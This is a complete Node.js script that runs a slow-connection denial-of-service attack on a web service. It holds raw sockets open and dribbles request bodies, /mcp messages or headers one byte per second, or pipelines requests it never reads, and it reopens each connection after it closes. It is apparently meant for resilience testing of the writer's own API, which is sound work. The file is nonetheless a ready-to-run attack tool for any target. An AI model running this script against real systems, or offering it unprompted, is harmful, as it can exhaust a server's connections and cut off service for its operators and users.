// @ts-check
// Usage: node slow-attack.mjs ORIGIN KEY,KEY,… COUNT PATH-OF-A-LARGE-LIST
// Opens slow connections to a service until it is killed. Equal shares send a body, a message to /mcp or their headers
// byte by byte, or do not read their answers. Each connection is opened again some time after it has ended.
import { connect } from 'node:net';

const REOPEN_MS = 5000;
const LETTER_MS = 1000;

const [, , origin = '', keys = '', count = '0', list = '/'] = process.argv;
const { hostname, port } = new URL(origin);
const ofKeys = keys.split(',');

/** @param {string} key */
const upload = (key) =>
  `POST /platforms/live_platform/profiles HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n` +
  `x-api-key: ${key}\r\nContent-Length: 200000\r\n\r\n{`;

/** @param {string} key */
const message = (key) => upload(key).replace('/platforms/live_platform/profiles', '/mcp');

/** @param {string} key */
const headers = (key) => `GET ${list} HTTP/1.1\r\nHost: a\r\nx-api-key: ${key}\r\nx-slow: `;

/** @param {string} key */
const reader = (key) => `GET ${list} HTTP/1.1\r\nHost: a\r\nx-api-key: ${key}\r\n\r\n`.repeat(5);

const kinds = [upload, headers, reader, message];

/** @param {number} nth */
function open(nth) {
  const kind = kinds[nth % kinds.length] ?? upload;
  const socket = connect({ host: hostname, port: Number(port), noDelay: true });
  socket.write(kind(ofKeys[nth % ofKeys.length] ?? ''));
  // Never reads its answers.
  if (kind === reader) socket.pause();
  else socket.resume();
  const sending = setInterval(() => kind !== reader && socket.write('a'), LETTER_MS);
  socket.on('error', () => undefined);
  socket.once('close', () => {
    clearInterval(sending);
    setTimeout(() => open(nth), REOPEN_MS);
  });
}

for (let nth = 0; nth < Number(count); nth += 1) setTimeout(() => open(nth), nth);
